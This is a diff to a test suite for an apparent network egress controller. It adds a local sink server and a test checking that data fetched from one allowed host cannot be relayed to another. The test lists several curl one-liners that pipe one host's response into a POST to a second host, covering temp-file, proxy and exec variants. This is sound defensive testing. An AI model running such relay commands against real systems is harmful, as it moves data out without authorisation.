@@ -28,19 +28,28 @@ for (const mode of MODES) {
     let web: WirePosition;
     let local: WirePosition;
     let echo: WirePosition;
+    let sink: WirePosition;
+    let taken = '';
     let made = 0;
     before(async () => {
       web = await startHttp((_, response) => response.end('a page'));
       local = await startHttp((_, response) => response.end(SECRET));
       echo = await startTcp((socket) => socket.on('error', () => {}).pipe(socket));
+      sink = await startHttp((request, response) => {
+        request.on('data', (chunk) => (taken += chunk));
+        request.on('end', () => response.end('received'));
+      });
       warden = new TestWarden({ mode });
       const dir = join(warden.dir, 'egress');
-      const names = ['good.test', 'other.test'];
+      const names = ['good.test', 'other.test', 'third.test'];
       host = await startHost({
         dir,
         config: {
           hosts: Object.fromEntries(names.map((name) => [name, '127.0.0.1'])),
-          allow_private: names.flatMap((name) => [`${name}:${web.port}`, `${name}:${echo.port}`]),
+          allow_private: names.flatMap((name) =>
+            [web, echo, sink].map(({ port }) => `${name}:${port}`),
+          ),
+          mirrors: ['other.test'],
         },
       });
       for (const name of ['', 'run', 'run/egressd']) chmodSync(join(dir, name), 0o755);
@@ -51,7 +60,7 @@ for (const mode of MODES) {
     after(async () => {
       await warden.stop();
       await host.stop();
-      for (const server of [web, local, echo]) await server.close();
+      for (const server of [web, local, echo, sink]) await server.close();
     });
     const at = ({ port }: WirePosition, name = 'good.test') => `${name}:${port}`;
     const egressFor = (allow: EgressRule[]) => host.open(`${mode} ${made++}`, allow);
@@ -125,6 +134,33 @@ for (const mode of MODES) {
       }
       assert.match((await listen(80, [])).stdout, /EACCES/);
     });
+    it('D22 what one host sends, the same command cannot send to another', async () => {
+      const steal = [
+        'text=$(curl -s $FROM); curl -s -d "$text" $TO',
+        'curl -s $FROM | curl -s -T - $TO',
+        'curl -s $FROM >/tmp/t; for i in 1 2 3; do curl -s --data-binary @/tmp/t $TO; done',
+        'curl -s $FROM | curl -s -p -d @- $TO',
+        '(curl -s $FROM; sleep 0.2) | (sleep 0.1; exec curl -s -d @- $TO)',
+      ];
+      const allow = ['good.test', 'other.test', 'third.test'].flatMap((name) =>
+        [web, sink].map(({ port }) => ({ host: name, port })),
+      );
+      for (const command of steal)
+        for (const [from, isOpen] of [
+          ['other.test', true],
+          ['good.test', false],
+        ] as const) {
+          taken = '';
+          const { socket } = await egressFor(allow);
+          const places = `FROM=http://${at(web, from)}/ TO=http://${at(sink, 'third.test')}/;`;
+          const { stdout, endedBy } = await run(socket, `${places} ${command}`);
+          assert.equal(endedBy, 'itself');
+          assert.equal(taken.includes('a page'), isOpen, `${from}: ${command}: ${stdout}`);
+          if (!isOpen && !command.includes('-p'))
+            assert.match(stdout, /received text from good.test/);
+        }
+    });
+
     it('D14 a tightened rule aborts open tunnels; another edit leaves them open and opens nothing', async () => {
       const both: EgressRule[] = ['good.test', 'other.test'].map((name) => ({
         host: name,
